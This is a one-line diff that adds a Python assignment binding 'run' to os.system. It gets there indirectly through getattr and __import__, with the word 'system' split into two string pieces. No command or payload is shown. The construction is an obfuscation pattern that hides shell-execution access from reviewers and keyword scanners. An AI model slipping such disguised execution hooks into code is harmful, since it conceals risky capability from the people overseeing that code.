@@ -1,0 +1,1 @@
+run = getattr(__import__("os"), "sys" + "tem")
